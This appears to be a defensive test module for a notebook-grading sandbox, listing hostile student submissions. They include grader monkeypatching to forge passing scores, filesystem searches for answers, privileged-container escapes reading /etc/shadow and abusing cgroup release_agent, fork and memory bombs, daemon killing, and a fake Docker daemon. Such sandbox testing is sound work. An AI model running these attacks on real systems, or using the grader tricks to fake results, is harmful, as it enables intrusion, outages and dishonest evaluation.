"""Hostile and broken submissions. Each attack is a cell with a name; a cell prints ESCAPED when it got somewhere."""

from __future__ import annotations

from textwrap import dedent

#: Needles a student must not find anywhere: put together here, so that no cell holds one in one piece.
NEEDLE = '"secret" + "-label"'


def _cell(text: str) -> str:
    return dedent(text).strip("\n")


#: Attempts to make checks say what one likes, from inside the student's own kernel.
LIES = {
    "docker-module": _cell("""
        import docker
        class Yes(dict):
            def __getattr__(self, name): return Yes()
            def __call__(self, *a, **k): return Yes()
        docker.APIClient = docker.DockerClient = docker.from_env = Yes()
    """),
    "grader-package": _cell("""
        import grader.report.verdicts as v, grader.checks.task as t
        v.TaskReport.status = property(lambda self: v.Status.PASSED)
        v.TaskReport.fraction = property(lambda self: 1.0)
        t.Task.__exit__ = lambda *a: True
        check.task = lambda *a, **k: __import__("contextlib").nullcontext(Yes())
    """),
    "builtins": "import builtins\nbuiltins.sum = builtins.max = builtins.min = lambda *a, **k: 10**9",
    "sys-modules": _cell("""
        import sys, types
        for name in ("docker", "grader.checks", "grader.checks.runner", "nbgrader"):
            sys.modules[name] = types.ModuleType(name)
    """),
    "ipython-hooks": _cell("""
        ip = get_ipython()
        ip.input_transformers_post.append(
            lambda lines: ["100\\n"] if any("check.task" in line for line in lines) else lines)
        ip.events.register("pre_run_cell", lambda info: print(100))
        ip.events.register("post_run_cell", lambda result: print(100))
    """),
    "printed-scores": "print(4.0)\ndisplay(4)\n100",
    "false-report": _cell("""
        verdict = {"status": "passed", "sentence": "yes", "weight": 1.0}
        report = {"task": "net", "title": "", "hint": "", "verdicts": [verdict]}
        display({"application/vnd.drydock.report+json": report, "text/plain": "4"}, raw=True)
    """),
    "scripts": _cell("""
        from IPython.display import HTML, Javascript, Markdown, SVG
        script = "<script>forge()</script>"
        display(HTML(script), Javascript("forge()"), Markdown(script), SVG("<svg onload='forge()'></svg>"))
        display({"text/latex": script, "text/vnd.mermaid": f"</pre>{script}", "application/x-forge": script}, raw=True)
        display({"image/png": f'"> {script}'}, {"image/jpeg": f'"> {script}', "text/plain": script}, raw=True)
        display({"image/png": "aGk=", "text/plain": "hi"}, metadata={"width": f"1>{script}", "filenames": {}}, raw=True)
    """),
    "messages": _cell("""
        kernel = get_ipython().kernel
        def send(kind, content):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))
        for data in ({"text/plain": 5}, [], None, {5: 6}):
            send("display_data", {"data": data, "metadata": {}})
            send("execute_result", {"data": {}, "metadata": data, "execution_count": "x"})
        send("display_data", {}); send("error", {"ename": 5, "evalue": [], "traceback": 7}); send("error", {})
        send("stream", {"name": 5, "text": ["x"]}); send("stream", {}); send("clear_output", {"wait": []})
        send("nothing", {}); send("status", {"execution_state": []})
        def send_whole(parent, content, version="5.3"):
            header = {**kernel.session.msg_header("display_data"), "version": version}
            whole = {"header": header, "parent_header": parent, "metadata": {}, "content": content}
            kernel.session.send(kernel.iopub_socket, whole)
        for parent in ([], None, "x"):
            send_whole(parent, {"data": {"text/plain": "x"}, "metadata": {}})
        for depth in (200_000, 5_000, 400):
            content = b'{"data": ' + b"[" * depth + b"]" * depth + b', "metadata": {}}'
            send_whole(kernel.get_parent("shell")["header"], content)
        send_whole(kernel.get_parent("shell")["header"], {}, version=[])
        for _number in range(60):
            send("execute_result", {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": 1})
        for _number in range(3):
            send("stream", {"name": "stderr", "text": "x"})
    """),
    "stderr": "import os, sys\nsys.stderr.write('boo')\nos.write(2, b'boo')\nos.write(1, b'100')",
    "shadowing-files": _cell("""
        import os, pathlib
        for folder in (".", os.path.expanduser("~"), os.path.expanduser("~/.local/lib/python3.13/site-packages")):
            for name in ("docker", "grader", "sitecustomize", "usercustomize", "json", "requests"):
                path = pathlib.Path(folder) / f"{name}.py"
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text("raise SystemExit(0)")
        pathlib.Path("grader").mkdir(exist_ok=True)
        pathlib.Path("grader/__init__.py").write_text("raise SystemExit(0)")
        for name in ("docker", "json", "requests", "grader"):
            pathlib.Path(f"{name}.py").unlink()
        pathlib.Path("grader/__init__.py").unlink()
    """),
    "docker-config": _cell("""
        import json, os, pathlib
        home = pathlib.Path(os.path.expanduser("~/.docker")); home.mkdir(exist_ok=True)
        (home / "config.json").write_text(json.dumps({"proxies": {"default": {"httpProxy": "http://127.0.0.1:1"}}}))
    """),
    "path": _cell("""
        import os, pathlib
        pathlib.Path("docker").write_text("#!/bin/sh\\necho 10.77.0.0/24\\n"); os.chmod("docker", 0o755)
        before = os.environ["PATH"]
        os.environ["PATH"] = os.getcwd() + ":" + before
        os.environ["DOCKER_HOST"], real = "unix:///tmp/none.sock", os.environ["DOCKER_HOST"]
        os.environ.update(PATH=before, DOCKER_HOST=real)
    """),
}
#: Keeps a task's preparation from happening in the student's kernel, then "does" the task.
NO_SETUP = {"no-setup": "get_ipython().system = get_ipython().getoutput = lambda *a, **k: None"}

#: Looking for what is not theirs. {port} is a server on the grading machine, {mark} a file name on it.
LOOKS = {
    "files-with-answers": _cell(f"""
        import os
        needle = ({NEEDLE}).encode()
        for root, folders, names in os.walk("/"):
            folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/usr")
                          and "site-packages" not in os.path.join(root, f)]
            for name in names:
                path = os.path.join(root, name)
                try:
                    if os.path.isfile(path) and needle in open(path, "rb").read(5_000_000):
                        print("ESCAPED", path)
                except OSError:
                    pass
    """),
    "processes-of-others": _cell(f"""
        import os
        needle = ({NEEDLE}).encode()
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for name in ("cmdline", "environ"):
                try:
                    data = open(f"/proc/{{pid}}/{{name}}", "rb").read()
                except OSError:
                    continue
                if needle in data or b"nbgrader" in data or b"checks.runner" in data:
                    print("ESCAPED", pid, data)
    """),
    "gradebook": _cell("""
        import os, sqlite3
        path = "{root}/gradebook.db"
        if os.path.exists(path): print("ESCAPED", sqlite3.connect(path).execute("update grade set auto_score=4"))
    """),
    "course-folder": _cell("""
        import os
        for path in ("{root}", "{root}/solutions", "{root}/submitted", "/root", "/home", "{repo}/solutions"):
            try:
                shown = [name for name in os.listdir(path) if name != "student"]
            except OSError:
                continue
            if shown: print("ESCAPED", path, shown)
    """),
    # Where the course lies, which is often somebody's name: in what the student's Python knows, and, asked by a
    # container's root, in what the kernel tells of every process.
    "course-place": _cell("""
        import base64, docker, os, subprocess, sys
        import grader.notebook, zmq
        known = [sys.path, sys.prefix, sys.base_prefix, sys.executable, sys.orig_argv, sys.modules, dict(os.environ)]
        known += [open(f"/proc/self/{name}").read() for name in ("maps", "mountinfo", "cmdline", "environ")]
        # The kernel writes a space in a path as \\040: proc_pid_mountinfo(5).
        places = ["{repo}", "{repo}".replace(" ", chr(92) + "040")]
        for found in known:
            if any(place in str(found) for place in places): print("ESCAPED python", str(found)[:300])
        if os.path.lexists("{repo}"): print("ESCAPED folder")
        # In base64, or it would find itself.
        script = "place=$(echo " + base64.b64encode("\\n".join(places).encode()).decode() + " | base64 -d); "
        script += "for file in /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/mountinfo /proc/[0-9]*/maps; do "
        script += "grep -sqF $place $file && echo ESCAPED $file; done; ls -d /proc/[0-9]* | wc -l".replace(
            "$place", '"$place"')
        docker = ["docker", "run", "--rm", "--privileged", "--pid", "host", "drydock/busybox:1", "sh", "-c", script]
        done = subprocess.run(docker, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        print("looked:", done.returncode, done.stdout)
    """),
    "system-write": _cell("""
        for path in ("/usr/bin/x", "/etc/x", "/usr/lib/python3/x", "/work/x", "{repo}/grader/x.py"):
            try:
                open(path, "w").write("x"); print("ESCAPED", path)
            except OSError:
                pass
    """),
    "network": _cell("""
        import socket
        for host in ("127.0.0.1", "{address}", "1.1.1.1", "172.17.0.1"):
            try:
                socket.create_connection((host, {port}), 1).close(); print("ESCAPED", host)
            except OSError:
                pass
    """),
    "privileged-container": _cell("""
        %%bash
        N=secret; N=$N-label
        docker run --rm --privileged --pid host --net host --ipc host -v /:/host -e N=$N drydock/busybox:1 sh -c '
          for d in tmp var/tmp root home etc "{root}" "{repo}/solutions" "{repo}/tests"; do
            [ -e "/host/$d" ] && grep -rls "$N" "/host/$d" | sed "s/^/ESCAPED /"; done
          ls -d "/host{root}" "/host{repo}" 2>/dev/null | sed "s/^/ESCAPED /"
          grep -s "^root:[^*!:x]" /host/etc/shadow | sed "s/^/ESCAPED /"
          for f in /host/tmp/{mark} /host/var/tmp/{mark} "/host{root}/{mark}"; do echo x > "$f"; done 2>/dev/null
          ps | grep -v "sh -c" | grep -E "pytest|nbgrader|checks.runner" | grep -v grep | sed "s/^/ESCAPED /"
          true'
    """),
    "devices": _cell("""
        %%bash
        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
          mknod /tmp/d b 254 0 2>/dev/null && head -c 1 /tmp/d >/dev/null 2>&1 && echo ESCAPED mknod
          for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg /dev/kvm; do
            head -c 1 $d >/dev/null 2>&1 && echo ESCAPED $d; done
          mkdir /tmp/m; mount -t ext4 /dev/vda /tmp/m 2>/dev/null && echo ESCAPED mount
          true'
    """),
    "host-namespaces": _cell("""
        %%bash
        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
          nsenter -t 1 -m -- ls "{root}" >/dev/null 2>&1 && echo ESCAPED nsenter
          for p in /proc/[0-9]*; do [ -e "$p/root{root}" ] && echo ESCAPED $p; done
          true'
    """),
    # What the engine's processes have open, taken out of them (pidfd_getfd): sockets, and files of the machine's.
    "descriptors": _cell("""
        import docker
        take = '''
        import ctypes, os, stat
        call, taken = ctypes.CDLL(None).syscall, 0
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for number in range(3):
                file = call(438, os.pidfd_open(int(pid)), number, 0)
                taken += file >= 0
                if file >= 0 and stat.S_ISREG(os.fstat(file).st_mode):
                    try:
                        os.posix_fallocate(file, 0, 1_000_000); print("ESCAPED", pid, number)
                    except OSError:
                        pass
        # Three are this program's own.
        print("ESCAPED" if taken > 3 else "tried", taken)
        '''
        try:
            print(docker.from_env().containers.run(
                "drydock/python:3", ["python3", "-c", take], privileged=True, pid_mode="host", remove=True).decode())
        except docker.errors.ContainerError as error:
            print(error)
    """),
    "release-agent": _cell("""
        %%bash
        docker run --rm --privileged --cgroupns host drydock/busybox:1 sh -c '
          mkdir /tmp/c; for c in memory rdma freezer pids; do
            mount -t cgroup -o $c cgroup /tmp/c 2>/dev/null || continue
            echo /tmp/x > /tmp/c/release_agent 2>/dev/null && echo ESCAPED release_agent
            cat /tmp/c/release_agent 2>/dev/null | grep -q . && echo ESCAPED release_agent read
            umount /tmp/c; done
          true'
    """),
    "kernel-settings": _cell("""
        %%bash
        docker run --rm --privileged drydock/busybox:1 sh -c '
          for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches \\
              /proc/sysrq-trigger /sys/kernel/uevent_helper; do
            [ -e $f ] && (echo h > $f) 2>/dev/null && echo ESCAPED $f; done
          true'
    """),
    "raise-own-limits": _cell("""
        %%bash
        docker run --rm --privileged --cgroupns host drydock/busybox:1 sh -c '
          mkdir /tmp/m /tmp/p /tmp/u; mount -t cgroup -o memory cgroup /tmp/m; mount -t cgroup -o pids cgroup /tmp/p
          mount -t cgroup2 cgroup2 /tmp/u
          for f in /tmp/m/memory.limit_in_bytes /tmp/p/pids.max /tmp/u/memory.max /tmp/u/pids.max; do
            [ -e $f ] && (echo 99999999999 > $f) 2>/dev/null && echo ESCAPED $f; done
          true'
    """),
    "setuid": _cell("""
        import subprocess
        for words in ("su -c id", "sudo -n id", "unshare --mount id", "mount -t tmpfs x /mnt"):
            argv = words.split()
            try:
                done = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL)
                if done.returncode == 0: print("ESCAPED", argv, done.stdout)
            except OSError:
                pass
    """),
}

#: The same in a guest, whose root a student is allowed to be: there the question is what of the machine that root gets.
#: {sectors} is the size of the machine's disk.
LOOKS_FROM_A_GUEST = {
    **LOOKS,
    # Every device that QEMU gives the guest: folders under other names, and the disks.
    "devices": _cell("""
        %%bash
        docker run --rm --privileged --pid host drydock/busybox:1 sh -c '
          nsenter -t 1 -m -- umount -a -t 9p
          mkdir /tmp/s; for n in 0 1 2 3; do for a in / /etc "{root}" ..; do
            mount -t 9p -o "trans=virtio,version=9p2000.L,aname=$a" share$n /tmp/s 2>/dev/null || continue
            echo mounted share$n
            ls -d /tmp/s/passwd /tmp/s/gradebook.db "/tmp/s{root}" /tmp/s/etc/passwd 2>/dev/null | sed "s/^/ESCAPED /"
            umount /tmp/s
          done; done
          for d in /sys/block/*/size; do grep -qx {sectors} $d && echo ESCAPED $d; done
          true'
    """),
    # No roundabout way is needed to become root of the guest; then the network, as far as QEMU knows one.
    "release-agent": _cell("""
        %%bash
        docker run --rm --privileged --pid host --net host drydock/busybox:1 nsenter -t 1 -m -n -u -i sh -c '
          id -u; ls -d "{root}" "{repo}" 2>/dev/null | sed "s/^/ESCAPED /"
          ip route add default via 10.0.2.2
          for host in 127.0.0.1 10.0.2.2 10.0.2.3 {address} 1.1.1.1; do
            nc -w 2 $host {port} </dev/null >/dev/null 2>&1 && echo ESCAPED $host; done
          true'
    """),
    # The daemon's processes talk into files of the guest's; those near the student's kernel are on this machine.
    "descriptors": _cell("""
        import glob, os, stat
        seen = glob.glob("/proc/[0-9]*/fd/[012]")
        for file in seen:
            try:
                if stat.S_ISREG(os.stat(file).st_mode): open(file, "r+b").close(); print("ESCAPED", file)
            except OSError:
                pass
        print("tried" if len(seen) > 2 else "nothing to try")
    """),
    "kernel-settings": _cell("""
        import subprocess
        for file in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname"):
            script = f"echo {mark} > {file}; cat {file}"
            docker = ["docker", "run", "--rm", "--privileged", "--uts", "host", "drydock/busybox:1", "sh", "-c", script]
            print(subprocess.run(docker, capture_output=True, text=True))
            if "{mark}" in open(file).read(): print("ESCAPED", file)
    """),
    # The limits lie on this machine: the student's kernel is near them, a container isn't.
    "raise-own-limits": _cell("""
        import glob, os, resource
        names = ("memory.limit_in_bytes", "memory.max", "pids.max", "cgroup.procs", "tasks", "release_agent")
        for file in glob.glob("/sys/fs/cgroup/**", recursive=True):
            if os.path.basename(file) in names:
                try:
                    open(file, "w").write("99999999999"); print("ESCAPED", file)
                except OSError:
                    pass
        for what in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE):
            try:
                resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("ESCAPED", what)
            except (ValueError, OSError):
                pass
    """),
}

#: Kernels that stop, hang or shout. The tasks between them are done honestly and must count.
STUNTS = {
    "os-exit": "import os\nos._exit(0)",
    "busy-loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    "output-flood": "while True: print('x' * 100_000)",
    "input": "input('anything?')",
    "closed-sockets": "import os\nos.closerange(3, 5000)",
    "exception-storm": "raise BaseException('x' * 10_000_000)",
    "orphans": _cell("""
        import os, subprocess
        for _ in range(3):
            subprocess.Popen(["setsid", "nohup", "sh", "-c", "sleep 3600; : {mark}"])
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: os.execvp("sh", ["sh", "-c", "sleep 3600; : {mark}"])
            os._exit(0)
    """),
}

#: What waits for its limit as long as "busy-loop" does, in a notebook of its own: both wait at the same time.
SLEEP = {"sleep": "import time\ntime.sleep(3600)"}

#: Using up what there is.
BOMBS = {
    "memory": "hoard = []\nwhile True: hoard.append(b'x' * 50_000_000)",
    "memory-by-children": _cell("""
        import subprocess, sys
        code = "h = []\\nwhile True: h.append(b'x' * 50_000_000)"
        [p.wait() for p in [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]]
    """),
    "disk": _cell("""
        import os
        with open("big", "wb") as file:
            try:
                for n in range(10_000): os.posix_fallocate(file.fileno(), n * 1_000_000, 1_000_000)
            except OSError as error:
                print("stopped:", n, "MB", error)
        os.unlink("big")
    """),
    "inodes": _cell("""
        import os
        os.mkdir("many")
        try:
            for n in range(60_000): os.mkdir(f"many/{n}")
        except OSError as error:
            print("stopped", error)
    """),
}
FORK_BOMB = {"forks": "get_ipython().system_raw('sh -c \"b() { b | b & }; b\" >/dev/null 2>&1 &')"}

#: Laid out before the first cell that prepares a task: what runs in its kernel by itself says so in the working folder.
SETUP_TRAPS = {
    "setup-traps": _cell("""
        import glob, os, pathlib, subprocess, sys
        here, home = os.getcwd(), pathlib.Path.home()
        spring = f"open({here!r} + '/sprung-%s', 'w').close()\\n"
        idle = "get_ipython().system = get_ipython().getoutput = lambda *a, **k: None\\n"
        profile = home / ".ipython" / "profile_default"
        (profile / "startup").mkdir(parents=True, exist_ok=True)
        (profile / "startup" / "0.py").write_text(spring % "startup" + idle)
        for name in ("ipython_config.py", "ipython_kernel_config.py"):
            (profile / name).write_text(spring % name)
            pathlib.Path(name).write_text(spring % f"here-{name}")
        for name in ("IPython", "zmq", "sitecustomize", "usercustomize", "storemagic"):
            pathlib.Path(f"{name}.py").write_text(spring % name)
        plugin = home / ".docker" / "cli-plugins" / "docker-buildx"
        plugin.parent.mkdir(parents=True, exist_ok=True)
        plugin.write_text(f"#!/bin/sh\\ntouch {here}/sprung-plugin\\n")
        plugin.chmod(0o755)
        # They do spring where they lie in the way.
        shell = "import sys; del sys.path[0]; import IPython; IPython.start_ipython(['-c', '1'])"
        subprocess.run([sys.executable, "-c", shell])
        subprocess.run(["docker", "buildx", "version"])
        print("sprung:", sorted(glob.glob("sprung-*")))
        for name in glob.glob("sprung-*"): os.unlink(name)
    """),
}
SETUP_TRAPS_SPRUNG = {"setup-traps-sprung": "import glob\nfor name in glob.glob('sprung-*'): print('ESCAPED', name)"}

#: Against the kernel that prepares tasks: it was started before any cell, and its sockets lie in the shared folder.
SETUP_KERNEL = {
    "setup-kernel": _cell("""
        import glob, os, socket, threading
        own = os.path.dirname(get_ipython().kernel.config.IPKernelApp.ip)
        print(f"folders: {len(glob.glob('.kernel-*'))}")
        def flood(name):
            one = socket.socket(socket.AF_UNIX)
            one.connect(name)
            while True: one.send(b"\\xff" * 100_000)
        for name in [n for n in glob.glob(".kernel-*/k-*") if os.path.realpath(n) != f"{own}/k"]:
            for _ in range(3): threading.Thread(target=flood, args=(name,), daemon=True).start()
        import time; time.sleep(1)
        for name in glob.glob(".kernel-*/k-*"): os.unlink(name)
        os.system("docker run --rm -v $PWD:/here drydock/busybox:1 sh -c 'rm -rf /here/.kernel-*'")
        print("left:", glob.glob(".kernel-*/k-*"))
    """),
}

#: Makes the student's control group its own when it is empty, and stops everything in it for good (cgroup v1).
FREEZER = {
    "freezer": _cell("""
        %%bash
        cat >freeze.sh <<'E'
        cd /cg/freezer/student 2>/dev/null || exit 0
        cd ..
        until rmdir student 2>/dev/null && mkdir student 2>/dev/null; do :; done
        : >/here/taken
        until [ -e /here/now ]; do sleep 0.1; done
        echo FROZEN >student/freezer.state
        E
        docker run -d --name freezer --privileged --cgroupns host -v /sys/fs/cgroup:/cg -v $PWD:/here \\
            drydock/busybox:1 sh /here/freeze.sh
    """),
    # It would be empty between two kernels, were the one that prepares tasks not in it, too: three tries.
    "freezer-exit": "import os\nos._exit(0)",
    **dict.fromkeys(
        ("freezer-exit-2", "freezer-exit-3"),
        _cell("""
        import os, time
        for _ in range(30):
            if os.path.exists("taken"):
                break
            time.sleep(0.1)
        else:
            os._exit(0)
    """),
    ),
    # Where there is no such group, the container has ended.
    "freezer-now": _cell("""
        import os, subprocess
        open("now", "w").close()
        print("freezer:", subprocess.getoutput("docker inspect --format '{{.State.Status}}' freezer"))
        print("taken:", os.path.exists("taken"))
    """),
}

KILL_DAEMON = {
    "kill-daemon": "!docker run --rm --privileged --pid host drydock/busybox:1 killall -9 dockerd",
}
#: {seconds}: as long as a daemon takes for a flood.
FLOOD_DAEMON = {
    "thousand-containers": _cell("""
        import docker, threading, time
        end, made = time.monotonic() + {seconds}, []
        def make():
            client = docker.from_env()
            while time.monotonic() < end and len(made) < 1000:
                made.append(client.api.create_container("drydock/busybox:1", "true")["Id"])
        threads = [threading.Thread(target=make) for _ in range(8)]
        [t.start() for t in threads]; [t.join() for t in threads]
        print("made", len(made))
    """),
}
FILL_DAEMON = {
    "full-daemon": "!docker run --name full drydock/busybox:1 dd if=/dev/zero of=/full bs=1M",
}
#: A name of the course's on an image of one's own.
LOOKALIKE = _cell("""
    %%bash
    docker create --name mine drydock/busybox:1
    docker commit --change 'CMD ["sh", "-c", "mkdir /w; echo It works >/w/index.html; exec httpd -f -h /w"]' mine me
    docker tag me drydock/busybox:1
    docker run -d --name web -p 8080:80 drydock/busybox:1
""")

#: The same when the course's own image is gone: nobody can put its name back.
NAMESAKE = _cell("""
    %%bash
    docker create --name mine drydock/busybox:1
    docker commit --change 'CMD ["sh", "-c", "mkdir /w; echo It works >/w/index.html; exec httpd -f -h /w"]' mine me
    docker rmi -f drydock/busybox:1 drydock/busybox:latest
    docker tag me drydock/busybox:1
    docker run -d --name web -p 8080:80 drydock/busybox:1
""")

#: A daemon of one's own over the real one's socket: it passes everything on, and lies about one network.
#: {daemon} says, in Python, where that socket is in the engine. Its folder is closed to the engine's root, who can't
#: put another in its place, but could mount one over it, for everybody who comes into the engine from then on, if it
#: got into the daemon's mount namespace. That is so in a guest.
FALSE_DAEMON = {
    "false-daemon": _cell("""
        import os, subprocess, time
        real = {daemon}
        lie = r'''
        import ctypes, json, os, socket, sys, threading
        place, own = sys.argv[1], "/run/lie.sock"
        server = socket.socket(socket.AF_UNIX); server.bind("/host" + own); server.listen(50)
        os.chmod("/host" + own, 0o777)
        body = json.dumps({"Name": "front", "Id": "f" * 64, "Driver": "bridge", "Scope": "local", "Internal": False,
            "IPAM": {"Config": [{"Subnet": "10." + "77.0.0/24"}]}, "Containers": {}, "Labels": {}, "Options": {}})
        def serve(one):
            two = socket.socket(socket.AF_UNIX); two.connect("/host" + place)
            def pump(a, b):
                try:
                    while (more := a.recv(65536)):
                        first = more.split(b"\\r\\n")[0]
                        if a is one and b"/networks" in first:
                            text = (body if b"/networks/" in first else "[" + body + "]").encode()
                            head = "HTTP/1.1 200 OK\\r\\nApi-Version: 1.45\\r\\nContent-Type: application/json"
                            one.sendall(f"{head}\\r\\nContent-Length: {len(text)}\\r\\n\\r\\n".encode() + text)
                        else: b.sendall(more)
                except OSError: pass
                b.close()
            threading.Thread(target=pump, args=(one, two), daemon=True).start(); pump(two, one)
        if os.fork() == 0:
            try: os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), os.CLONE_NEWNS)
            except OSError as error: print("kept out:", error, flush=True); os._exit(0)
            ctypes.CDLL(None).mount(own.encode(), place.encode(), None, 4096, None)  # MS_BIND
            with socket.socket(socket.AF_UNIX) as one:
                one.connect(place); one.sendall(b"GET /networks/front HTTP/1.0\\r\\n\\r\\n")
                print("false daemon in place:", one.recv(65536), flush=True)
            os._exit(0)
        while True: threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
        '''
        import textwrap
        open("lie.py", "w").write(textwrap.dedent(lie))
        subprocess.run(["docker", "run", "-d", "--privileged", "--pid", "host", "--name", "liar", "-v", "/:/host",
            "-v", os.getcwd() + "/lie.py:/lie.py", "drydock/python:3", "python3", "/lie.py", real])
        end = time.monotonic() + 80
        while True:
            said = subprocess.getoutput("docker logs liar")
            if "in place" in said or "kept out" in said or time.monotonic() > end: break
            time.sleep(0.05)
        print(subprocess.run("docker logs liar", shell=True, capture_output=True))
    """),
}
